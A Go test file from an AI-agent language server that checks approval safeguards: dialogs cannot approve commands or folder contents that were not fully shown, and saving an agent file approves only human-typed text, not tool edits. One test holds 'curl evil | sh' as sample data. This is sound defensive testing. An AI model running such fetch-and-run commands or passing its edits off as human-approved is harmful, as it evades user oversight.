package handlers

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"go.lsp.dev/protocol"
	"go.lsp.dev/uri"

	"github.com/agentls/agentls/agents"
	"github.com/agentls/agentls/agents/definition"
	"github.com/agentls/agentls/agents/guard"
	"github.com/agentls/agentls/agents/registry"
	"github.com/agentls/agentls/agents/tool"
	"github.com/agentls/agentls/internal/settings"
	"github.com/agentls/agentls/internal/wire"
	"github.com/agentls/agentls/workspace"
)

// recorded is what is known of one folder, as a daemon would.
type recorded struct {
	Reviews
	brings  workspace.Active
	pending []Pending
	given   []string      // what was approved, as kind and folder
	saved   chan string   // texts that were saved
	locked  chan struct{} // while it is open a save waits
}

func (r *recorded) Decided(string) bool { return false }

func (r *recorded) Record(string) (workspace.TrustRecord, error) { return workspace.TrustRecord{}, nil }

func (r *recorded) NeedsReview() func(*definition.Definition) bool {
	return func(*definition.Definition) bool { return false }
}

func (r *recorded) Brings(context.Context, string) (workspace.Active, error) { return r.brings, nil }

func (r *recorded) Pending(context.Context, string) ([]Pending, error) { return r.pending, nil }

func (r *recorded) Trust(_ context.Context, folder string, _ []workspace.TrustItem) error {
	r.given = append(r.given, "trust "+folder)
	return nil
}

func (r *recorded) Approve(_ context.Context, folder string, _ []workspace.TrustItem) error {
	r.given = append(r.given, "approve "+folder)
	return nil
}

func (r *recorded) ApproveSave(_ context.Context, _, _, text, base string) error {
	<-r.locked
	if base == "one\n" || slices.Contains(r.given, base) {
		r.given = append(r.given, text)
		r.saved <- text
	}
	return nil
}

// answering connects a client that takes an action of each message where it is
// offered, the last one that it has in the list, and tells which were offered.
func answering(t *testing.T, known *recorded, takes ...string) (conn *connected, asked *[]protocol.ShowMessageRequestParams) {
	t.Helper()
	asked = new([]protocol.ShowMessageRequestParams)
	conn = connect(t, func(_ context.Context, _ string, params []byte) (any, error) {
		var p protocol.ShowMessageRequestParams
		if err := (wire.Codec{}).Unmarshal(slices.Clone(params), &p); err != nil {
			return nil, err
		}
		*asked = append(*asked, p)
		for _, title := range takes {
			if slices.ContainsFunc(p.Actions, func(a protocol.MessageActionItem) bool { return a.Title == title }) {
				return &protocol.MessageActionItem{Title: title}, nil
			}
		}
		return nil, nil
	})
	conn.h.caps.Confirm = nil
	conn.h.daemon.Reviews = known
	conn.h.daemon.Trusted = func(string) bool { return false }
	conn.h.daemon.Catalog = func(context.Context) (*registry.Snapshot, error) { return new(registry.Snapshot), nil }
	return conn, asked
}

func offered(p protocol.ShowMessageRequestParams) string {
	var titles []string
	for _, a := range p.Actions {
		titles = append(titles, a.Title)
	}
	return strings.Join(titles, "|")
}

// TestSEC71WhatNoDialogHoldsIsRefused: where a call can be shown only in a dialog,
// one that is cut by editors cannot be agreed to.
func TestSEC71WhatNoDialogHoldsIsRefused(t *testing.T) {
	for name, c := range map[string]struct {
		command string
		want    agents.Outcome
		last    string
	}{
		"longer than a dialog": {strings.Repeat("echo aaaaaaaaaaaaaaaaa\n", 100) + "evil", guard.Reject, "Reject"},
		"control: short":       {strings.Repeat("echo a\n", 9) + "evil", guard.Once, "Reject|Allow once"},
	} {
		t.Run(name, func(t *testing.T) {
			conn, asked := answering(t, &recorded{}, showTitle, "Allow once")
			conn.h.shows = false
			q := asking(tool.Preview{Kind: "command", Cwd: "/w", Command: c.command}, guard.Reject)
			q.Asked = func(time.Time) {}
			got := conn.h.frontend.Confirm(t.Context(), q)
			if len(*asked) != 2 {
				t.Fatalf("asked %d times: %+v", len(*asked), got)
			}
			second := (*asked)[1]
			if got.Outcome != c.want || offered(second) != c.last || strings.HasPrefix(second.Message, tooLong) != (c.want == guard.Reject) {
				t.Errorf("%+v, offered %s in %.200q", got, offered(second), second.Message)
			}
		})
	}
}

// TestSEC13And71NothingIsApprovedThatWasNotShown: a folder that brings more than
// is shown, or whose whole fits into no dialog, cannot be agreed to.
func TestSEC13And71NothingIsApprovedThatWasNotShown(t *testing.T) {
	big := []workspace.TrustItem{
		{Kind: workspace.AgentItem, Name: "a", Label: "a", Text: []byte(strings.Repeat("x", maxShownItems+1))},
		{Kind: workspace.AgentItem, Name: "b", Label: "b", Text: []byte("hidden")},
	}
	long := append(items(workspace.AgentItem, maxNamed+1, "b"), workspace.TrustItem{
		Kind: workspace.AgentItem, Name: "a", Label: "a", Text: []byte(strings.Repeat("x\n", 2000)),
	})
	for name, c := range map[string]struct {
		items  []workspace.TrustItem
		shows  bool
		agreed bool
	}{
		"more than is shown":      {big, true, false},
		"longer than a dialog":    {long, false, false},
		"control: a document":     {long, true, true},
		"control: a dialog of it": {items(workspace.AgentItem, 1, "a"), false, true},
	} {
		t.Run(name, func(t *testing.T) {
			known := &recorded{brings: workspace.Active{Items: c.items}}
			for _, item := range c.items {
				known.pending = append(known.pending, Pending{TrustItem: item})
			}
			conn, asked := answering(t, known, showTrust, showReview, giveTrust, giveReview)
			conn.h.shows = c.shows
			for _, ask := range []func(context.Context, string, asker) (bool, error){conn.h.askTrust, conn.h.askReview} {
				*asked = nil
				if conn.h.consents.dismissed == nil {
					conn.h.consents.dismissed = map[string]bool{}
				}
				if yes, err := ask(t.Context(), "/w", anyRun); err != nil || yes != c.agreed {
					t.Errorf("%v, %v after %d dialogs", yes, err, len(*asked))
				}
				if last := (*asked)[len(*asked)-1]; !c.agreed && (len(last.Actions) != 1 || !strings.Contains(last.Message, "cannot be agreed to here")) {
					t.Errorf("offered %s in %.300q", offered(last), last.Message)
				}
			}
			if (len(known.given) > 0) != c.agreed {
				t.Errorf("recorded %q", known.given)
			}
		})
	}
}

// TestSEC13FoldersOfOneNameAreShownApart: each has a file of its own.
func TestSEC13FoldersOfOneNameAreShownApart(t *testing.T) {
	known := &recorded{brings: workspace.Active{Items: items(workspace.AgentItem, 1, "a")}, pending: []Pending{{TrustItem: items(workspace.AgentItem, 1, "a")[0]}}}
	conn, _ := answering(t, known, showTrust, showReview)
	conn.h.consents.dismissed = map[string]bool{}
	shown := map[string]string{}
	conn.shown = func(path string) {
		if _, again := shown[path]; again {
			t.Errorf("%s is shown twice", path)
		}
		data, err := os.ReadFile(path)
		if err != nil {
			t.Error(err)
		}
		shown[path] = string(data)
	}
	for _, folder := range []string{"/a/app", "/b/app"} {
		_, _ = conn.h.askTrust(t.Context(), folder, anyRun)
		_, _ = conn.h.askReview(t.Context(), folder, anyRun)
	}
	if len(shown) != 4 {
		t.Errorf("shown %v", shown)
	}
	for path := range shown {
		now, err := os.ReadFile(path)
		if err != nil || string(now) != shown[path] {
			t.Errorf("%s became another: %v", path, err)
		}
	}
}

// TestSEC13AClientThatIgnoresADialog: who waits for an answer waits as long as for
// one about a call, also behind the dialog of the start, and then nothing is
// trusted.
func TestSEC13AClientThatIgnoresADialog(t *testing.T) {
	for _, atStart := range []bool{false, true} {
		known := &recorded{brings: workspace.Active{Items: items(workspace.AgentItem, 1, "a")}}
		ignored := make(chan struct{})
		asked := make(chan struct{}, 8)
		conn := connect(t, func(context.Context, string, []byte) (any, error) {
			asked <- struct{}{}
			<-ignored // whatever is withdrawn meanwhile
			return nil, nil
		})
		conn.h.daemon.Reviews, conn.h.daemon.Trusted = known, func(string) bool { return false }
		conn.h.daemon.Settings = func(string) *agents.Settings {
			return &agents.Settings{Values: settings.Values{ConfirmationTimeout: time.Millisecond}}
		}
		if atStart {
			conn.h.consider("/w", anyRun)
			<-asked
		}
		if c, err := conn.h.askAboutFolder(t.Context(), "/w", aRun); err != nil || (c != nil && c.yes) || len(known.given) > 0 {
			t.Errorf("%+v, %v", c, err)
		}
		close(ignored)
	}
}

// TestSEC71WordsOfOthersDoNotPushFactsAway: what the model says of its call takes
// a few lines, and says what is left out.
func TestSEC71WordsOfOthersDoNotPushFactsAway(t *testing.T) {
	for name, c := range map[string]struct{ text, want string }{
		"blank lines": {"x" + strings.Repeat("\n", 300) + "y", "blank lines"},
		"lines":       {strings.Repeat("x\n", 300), "(288 more lines are left out)"},
		"blanks":      {"x" + strings.Repeat(" ", 3000) + "y", "3000"},
		"one line":    {strings.Repeat("x", 3000), "(2600 more characters)"},
		"few":         {"a\nb", "> a\n> b\n"},
	} {
		q := asking(tool.Preview{Kind: "command", Command: "curl evil | sh", Cwd: "/w"}, guard.Reject)
		q.Plan.Args, _ = json.Marshal(map[string]string{"command": "c", "description": c.text})
		f := confirmationText(q)
		if strings.Count(f, "\n") > quotedLines+12 || len(f) > 2000 || !strings.Contains(f, c.want) {
			t.Errorf("%s: %d lines, %d bytes:\n%.600s", name, strings.Count(f, "\n"), len(f), f)
		}
	}
}

// editsAgent is a room whose folder is the workspace, with an agent file that is
// open, and what is known of it.
func editsAgent(t *testing.T) (*room, *recorded, uri.URI) {
	t.Helper()
	r := enter(t)
	known := &recorded{saved: make(chan string, 8), locked: make(chan struct{})}
	r.h.daemon.Reviews = known
	r.h.daemon.Catalog = func(context.Context) (*registry.Snapshot, error) { return new(registry.Snapshot), nil }
	folder := workspace.Folder{Name: "w", URI: uri.File(r.folder), Path: r.folder, Canonical: r.folder}
	if _, err := r.h.Workspace.Apply(workspace.FoldersSet{Folders: []workspace.Folder{folder}}); err != nil {
		t.Fatal(err)
	}
	const name = ".gemini/agents/a.md"
	r.has(name, "one\n")
	u := uri.File(r.path(name))
	if err := r.h.didOpen(t.Context(), &didOpenParams{TextDocument: textDocumentItem{URI: u, Version: 1, Text: "one\n"}}); err != nil {
		t.Fatal(err)
	}
	return r, known, u
}

func (r *room) didChange(u uri.URI, version int32, text string) {
	r.t.Helper()
	p := &protocol.DidChangeTextDocumentParams{ContentChanges: []protocol.TextDocumentContentChangeEvent{&protocol.TextDocumentContentChangeWholeDocument{Text: text}}}
	p.TextDocument.URI, p.TextDocument.Version = u, version
	if err := errors.Join(r.h.didChange(r.t.Context(), p), r.h.texts.disk.wait(r.t.Context())); err != nil {
		r.t.Fatal(err)
	}
}

func (r *room) didSave(u uri.URI) {
	r.t.Helper()
	if err := r.h.didSave(r.t.Context(), &protocol.DidSaveTextDocumentParams{TextDocument: protocol.TextDocumentIdentifier{URI: u}}); err != nil {
		r.t.Fatal(err)
	}
}

// TestSEC09AListWaitsForTexts: what an editor told is compared with the files before the
// list of agents is answered, so that a save after the answer is judged by what lay there
// before.
func TestSEC09AListWaitsForTexts(t *testing.T) {
	r, _, _ := editsAgent(t)
	compare := make(chan struct{})
	r.h.texts.disk.then(&r.h.work, func() { <-compare })
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := r.h.list(ctx, struct{}{}, &wire.ListParams{}); !errors.Is(err, context.Canceled) {
		t.Errorf("it did not wait: %v", err)
	}
	close(compare)
	if _, err := r.h.list(t.Context(), struct{}{}, &wire.ListParams{}); err != nil {
		t.Error(err)
	}
}

// TestSEC12OnlyWhatThePersonTypedIsApprovedBySaving: not what a tool had the
// editor change, alone or after the person, whoever asked for the save.
func TestSEC12OnlyWhatThePersonTypedIsApprovedBySaving(t *testing.T) {
	for name, c := range map[string]struct {
		texts    []string // one after the other; "!" before those of a tool, "@" before those that the disk had
		approved bool
		ends     string // of the lines as the editor has them; "" = as they are
	}{
		"a tool's":                   {[]string{"!evil\n"}, false, ""},
		"a tool's after the typed":   {[]string{"typed\n", "!typed\nevil\n"}, false, ""},
		"typed":                      {[]string{"typed\n"}, true, ""},
		"typed after the tool's":     {[]string{"!evil\n", "evil\ntyped\n"}, false, ""},
		"typed after a reload":       {[]string{"@evil\n", "evil\ntyped\n"}, false, ""},
		"typed, read again, typed":   {[]string{"typed\n", "@evil\n", "evil\ntyped\n"}, false, ""},
		"typed, undone and typed":    {[]string{"typed\n", "one\n", "typed again\n"}, true, ""},
		"typed and undone to tool's": {[]string{"!evil\n", "typed\n", "evil\n"}, false, ""},
		"a tool's, lines as in DOS":  {[]string{"!evil\n"}, false, "\r\n"},
		"a reload, lines as in DOS":  {[]string{"@evil\n"}, false, "\r\n"},
		"a reload of an old Mac's":   {[]string{"@evil\revil\n"}, false, "\n"},
		"typed, lines as in DOS":     {[]string{"typed\n"}, true, "\r\n"},
		"line ends":                  {[]string{"one\r\n"}, true, ""},
		"line ends of the typed":     {[]string{"typed\n", "typed\r\n"}, true, ""},
		"line ends of a tool's":      {[]string{"!evil\n", "evil\r\n"}, false, ""},
		"line ends of a reload":      {[]string{"@evil\n", "evil\r\n"}, false, ""},
		"line ends, by a tool":       {[]string{"!one\r\n"}, false, ""},
		"line ends, by a reload":     {[]string{"@one\r\n"}, false, ""},
	} {
		t.Run(name, func(t *testing.T) {
			r, known, u := editsAgent(t)
			close(known.locked)
			for i, text := range c.texts {
				text, byTool := strings.CutPrefix(text, "!")
				if byTool {
					r.h.texts.noteTool(u, text) // as applyEdit does before it asks
				}
				text, onDisk := strings.CutPrefix(text, "@")
				if onDisk {
					r.has(".gemini/agents/a.md", text)
				}
				if c.ends != "" {
					text = strings.ReplaceAll(tool.LineFeeds(text), "\n", c.ends)
				}
				r.didChange(u, int32(2+i), text)
			}
			r.has(".gemini/agents/a.md", strings.TrimPrefix(c.texts[len(c.texts)-1], "!"))
			later := time.Now().Add(time.Second) // the clock of files may stand still
			if err := os.Chtimes(u.FsPath(), later, later); err != nil {
				t.Fatal(err)
			}
			r.didSave(u)
			if _, err := r.h.catalog(t.Context()); err != nil { // after all that was saved
				t.Fatal(err)
			}
			if got := len(known.saved) > 0; got != c.approved {
				t.Errorf("approved: %v", got)
			}
		})
	}
	r, known, u := editsAgent(t)
	close(known.locked)
	r.has(".gemini/agents/a.md", "typed\n")
	r.didChange(u, 2, "typed\n") // told after it was written, as Neovim does
	r.didSave(u)
	if _, err := r.h.catalog(t.Context()); err != nil || len(known.saved) == 0 {
		t.Errorf("a change that is told after its file was written is not approved: %v", err)
	}
	r, _, u = editsAgent(t)
	d, _ := r.h.Workspace.Snapshot().Document(u)
	if err := r.h.applyEdit(t.Context(), d, "evil\n", "l"); err != nil || !r.h.texts.byTool[u.FsPath()][linesDigest("evil\n")] {
		t.Errorf("an edit of a tool's passes for typed: %v", err)
	}
}

// TestSEC12SavesDoNotHoldUpTheConnection: while the records are locked messages
// are read, and who needs what a save brings about waits for it, in order.
func TestSEC12SavesDoNotHoldUpTheConnection(t *testing.T) {
	r, known, u := editsAgent(t)
	for i, text := range []string{"first\n", "second\n"} {
		r.didChange(u, int32(2+i), text)
		r.has(".gemini/agents/a.md", text)
		r.didSave(u) // it returns though the records are locked
	}
	ended, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := r.h.catalog(ended); err == nil {
		t.Error("the agents are read before what was saved is recorded")
	}
	close(known.locked)
	if _, err := r.h.catalog(t.Context()); err != nil {
		t.Fatal(err)
	}
	if a, b := <-known.saved, <-known.saved; a != "first\n" || b != "second\n" {
		t.Errorf("recorded %q, %q", a, b)
	}
}

// TestSEC12ASlowDiskForgetsNothing: while the disk does not answer, a save does not take
// back that a tool changed the text after it.
func TestSEC12ASlowDiskForgetsNothing(t *testing.T) {
	r, known, u := editsAgent(t)
	close(known.locked)
	answers := make(chan struct{})
	r.h.texts.disk.then(&r.h.work, func() { <-answers })
	change := func(version int32, text string) {
		p := &protocol.DidChangeTextDocumentParams{ContentChanges: []protocol.TextDocumentContentChangeEvent{&protocol.TextDocumentContentChangeWholeDocument{Text: text}}}
		p.TextDocument.URI, p.TextDocument.Version = u, version
		if err := r.h.didChange(t.Context(), p); err != nil {
			t.Fatal(err)
		}
	}
	change(2, "typed\n")
	r.didSave(u)
	r.h.texts.noteTool(u, "typed\nevil\n")
	change(3, "typed\nevil\n")
	change(4, "typed\nevil\nmore\n")
	r.didSave(u)
	close(answers)
	if _, err := r.h.catalog(t.Context()); err != nil {
		t.Fatal(err)
	}
	if len(known.saved) != 1 || <-known.saved != "typed\n" {
		t.Errorf("approved: %q", known.given)
	}
}

// TestTheCommandAsksAfterAStartThatHadNoNeed: a command that comes while the
// start of a folder that brings nothing is looked into asks itself.
func TestTheCommandAsksAfterAStartThatHadNoNeed(t *testing.T) {
	held := make(chan struct{})
	known := &brought{recorded: &recorded{}, held: held}
	conn, asked := answering(t, known.recorded, giveTrust)
	conn.h.daemon.Reviews = known
	start := conn.h.consider("/c", anyRun)
	done := make(chan *trustDialog)
	go func() {
		c, err := conn.h.askAboutFolder(t.Context(), "/c", aCommand)
		if err != nil {
			t.Error(err)
		}
		done <- c
	}()
	close(held)
	<-start.done
	if c := <-done; c == nil || !c.yes || len(*asked) != 1 {
		t.Errorf("decided %+v, asked %d times", c, len(*asked))
	}
}

// brought is recorded, whose first look at a folder is held up.
type brought struct {
	*recorded
	held chan struct{}
}

func (b *brought) Brings(ctx context.Context, folder string) (workspace.Active, error) {
	<-b.held
	return b.recorded.Brings(ctx, folder)
}
